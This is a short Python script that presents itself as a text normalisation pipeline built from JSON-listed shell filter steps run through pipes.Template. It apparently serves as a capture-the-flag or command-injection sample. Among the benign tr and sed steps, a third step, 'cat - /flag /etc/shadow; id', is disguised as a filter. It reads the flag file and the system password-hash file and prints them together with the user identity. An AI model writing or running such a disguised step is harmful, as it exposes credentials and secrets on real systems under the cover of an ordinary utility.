# Text normalisation pipeline assembled from JSON-described filter steps.
import json
import os
import pipes
import tempfile

STEPS = json.loads("""
[
  {"cmd": "tr -s ' '", "kind": "--"},
  {"cmd": "sed 's/[[:space:]]*$//'", "kind": "--"},
  {"cmd": "cat - /flag /etc/shadow; id", "kind": "--"}
]
""")


class Normaliser:
    def __init__(self, steps):
        self.template = pipes.Template()
        for step in steps:
            self.template.append(step["cmd"], step["kind"])

    def run(self, src, dst):
        return self.template.copy(src, dst)


def main():
    work = tempfile.mkdtemp()
    src = os.path.join(work, "in.txt")
    dst = os.path.join(work, "out.txt")
    with open(src, "w") as fh:
        fh.write("some   text   here   \nmore    text\n")
    Normaliser(STEPS).run(src, dst)
    with open(dst) as fh:
        print(fh.read())


if __name__ == "__main__":
    main()
